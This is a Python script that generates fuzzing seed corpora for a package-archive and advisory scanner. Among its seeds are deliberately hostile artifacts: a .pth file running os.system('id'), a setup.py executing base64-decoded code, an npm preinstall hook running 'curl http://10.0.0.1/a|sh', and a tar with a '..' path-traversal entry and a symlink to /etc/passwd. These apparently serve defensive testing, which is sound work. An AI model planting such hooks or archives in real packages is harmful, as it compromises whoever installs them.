"""Writes small seed corpora for the `archive`, `inputs` and `advisory`
targets into corpus/<target>/.

Each seed is one byte that picks the artifact's file name (see
fuzz_targets/archive.rs) followed by a real, tiny artifact: a wheel with a
.pth file and a setup-time script, an sdist, an npm tarball with an
install hook, a plain tar with a link and a `..` path. libFuzzer mutates
from there instead of having to discover the zip and gzip formats.
Standard library only.
"""

import gzip
import json
import io
import os
import tarfile
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus", "archive")
WHL, TAR_GZ, TGZ, ZIP, TAR = 0, 1, 2, 3, 4


def tar_bytes(entries, links=()):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tar.addfile(info)
    return buf.getvalue()


def zip_bytes(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


def main():
    os.makedirs(OUT, exist_ok=True)
    setup = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    seeds = {
        "wheel": (WHL, zip_bytes([
            ("pkg/__init__.py", b"VALUE = 1\n"),
            ("pkg.pth", b"import os; os.system('id')\n"),
            ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n"),
        ])),
        "sdist": (TAR_GZ, gzip.compress(tar_bytes([
            ("pkg-1.0/setup.py", setup),
            ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
        ]))),
        "npm": (TGZ, gzip.compress(tar_bytes([
            ("package/package.json", b'{"name":"pkg","scripts":{"preinstall":"node x.js"}}'),
            ("package/x.js", b"require('child_process').exec('curl http://10.0.0.1/a|sh')\n"),
        ]))),
        "zip": (ZIP, zip_bytes([("a/b.txt", b"a" * 4096)])),
        "tar": (TAR, tar_bytes([("../escape.py", b"x = 1\n")], links=[("link", "/etc/passwd")])),
    }
    for name, (pick, data) in seeds.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(bytes([pick]) + data)
    print(f"{len(seeds)} seeds in {OUT}")
    inputs = os.path.join(os.path.dirname(OUT), "inputs")
    os.makedirs(inputs, exist_ok=True)
    texts = {
        "requirement": "requests[socks]>=2.31,<3; python_version >= '3.8'",
        "pip-args": "--index-url http://127.0.0.1:1/simple --no-deps -r req.txt",
        "npm-spec": "@babel/core@^7.24.0",
        "lockfile": '{"lockfileVersion":3,"packages":{"":{"name":"app"},'
        '"node_modules/a":{"version":"1.0.0","resolved":"http://r/a/-/a-1.0.0.tgz","integrity":"sha512-AA=="},'
        '"node_modules/alias":{"name":"@s/real","version":"3.0.0","resolved":"http://r/@s/real/-/real-3.0.0.tgz","integrity":"sha512-DD=="}}}',
        "packument": '{"name":"a","time":{"created":"2020-01-01T00:00:00Z","1.0.0":"2020-01-02T00:00:00Z"},'
        '"maintainers":[{"name":"x"}],"versions":{"1.0.0":{"name":"a","version":"1.0.0",'
        '"scripts":{"preinstall":"node x.js"},"dist":{"tarball":"http://r/a/-/a-1.0.0.tgz","integrity":"sha512-AA=="}}}}',
    }
    for name, text in texts.items():
        with open(os.path.join(inputs, name), "w") as f:
            f.write(text)
    print(f"{len(texts)} seeds in {inputs}")
    advisory = os.path.join(os.path.dirname(OUT), "advisory")
    os.makedirs(advisory, exist_ok=True)
    records = {
        "pypi-range": "1.2.3\n" + json.dumps({
            "id": "PYSEC-0000-1", "modified": "2024-01-01T00:00:00Z",
            "affected": [{"package": {"ecosystem": "PyPI", "name": "Acme_Lib"},
                          "ranges": [{"type": "ECOSYSTEM", "events": [
                              {"introduced": "0"}, {"fixed": "1.2.4"},
                              {"introduced": "2.0.0rc1"}, {"last_affected": "2.1"}]}],
                          "versions": ["1.0", "1.2.3"]}]}),
        "npm-malicious": "9.9.9\n" + json.dumps({
            "id": "MAL-0000-1", "modified": "2024-01-01T00:00:00Z",
            "affected": [{"package": {"ecosystem": "npm", "name": "@acme/internal"},
                          "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}]}]}]}),
        "withdrawn": "1.0.0\n" + json.dumps({
            "id": "GHSA-0000-1", "withdrawn": "2024-02-01T00:00:00Z",
            "affected": [{"package": {"ecosystem": "npm", "name": "x"},
                          "ranges": [{"type": "SEMVER", "events": [
                              {"introduced": "1.0.0-beta.1"}, {"fixed": "1.0.1"}]}]}]}),
    }
    for name, text in records.items():
        with open(os.path.join(advisory, name), "w") as f:
            f.write(text)
    print(f"{len(records)} seeds in {advisory}")


if __name__ == "__main__":
    main()
